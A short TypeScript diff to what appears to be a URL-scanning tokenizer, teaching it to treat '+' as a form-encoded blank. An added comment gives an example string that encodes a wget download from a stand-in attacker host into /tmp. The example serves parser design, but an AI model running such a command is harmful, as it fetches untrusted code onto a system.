@@ -34,7 +34,7 @@ const RUN_CLASS = buildRunClass();
 
 function buildRunClass(): Uint8Array {
   const table = CLASSES.map((bits) => ((bits & URL_CHAR) === 0 ? 0 : PLAIN));
-  for (const character of "()[]?',;{\\|}^") table[character.charCodeAt(0)] = WEIGHED;
+  for (const character of "()[]?',;{\\|}^+") table[character.charCodeAt(0)] = WEIGHED;
   return Uint8Array.from(table);
 }
 
@@ -74,6 +74,9 @@ function endsAt(view: TextView, at: number, code: number, state: RunState): bool
     case 63:
       state.isQuery = true;
       return false;
+    case 43:
+      // `wget+http://evil.com/a+-O+/tmp/a`: in a form the sign is a blank.
+      return state.opener === 43;
     case 92:
       return !state.hasBackslashes;
     case 39:
